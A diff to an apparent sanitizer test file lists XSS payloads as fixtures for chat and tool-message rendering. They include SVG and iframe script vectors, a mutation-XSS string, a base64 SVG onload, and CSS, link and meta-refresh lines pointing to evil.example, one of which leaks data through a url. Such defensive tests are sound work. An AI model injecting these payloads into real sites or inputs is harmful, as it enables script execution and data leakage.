@@ -22,7 +22,7 @@ TEXTS = (
     DRAWING,
     "<svg><animate onbegin=alert(1) attributeName=x></svg>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style><img alt='--&gt;&lt;img src onerror=a()&gt;'>",
     "<style>*{background:url(//evil.example/?leak)}</style>",
     "<link rel=stylesheet href=//evil.example/x.css>",
     "<meta http-equiv=refresh content='0;url=//evil.example'>",
@@ -131,7 +131,8 @@ def items(text: str) -> list[dict[str, Any]]:
             {"type": "tool_result", "tool_use_id": text, "content": [
                 {"type": "text", "text": text},
                 {"type": "image", "source": {
-                    "type": "base64", "media_type": "image/svg+xml", "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+                    "type": "base64", "media_type": "image/svg+xml",
+                    "data": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
                 }},
             ]},
         ]},
@@ -142,7 +143,9 @@ def items(text: str) -> list[dict[str, Any]]:
         {"kind": "request", "parts": [{"part_kind": "user-prompt", "content": [
             text, {"kind": "image-url", "url": text}, {"kind": "image-url", "url": PIXEL},
         ]}]},
-        {"message": {"role": "assistant", "content": [{"toolUse": {"toolUseId": text, "name": text, "input": text}}]}},
+        {"message": {"role": "assistant", "content": [
+            {"toolUse": {"toolUseId": text, "name": text, "input": text}},
+        ]}},
         {"ns": text, "writes": True, "of": [[text, text, text]]},
         {text: text},
     ]  # fmt: skip
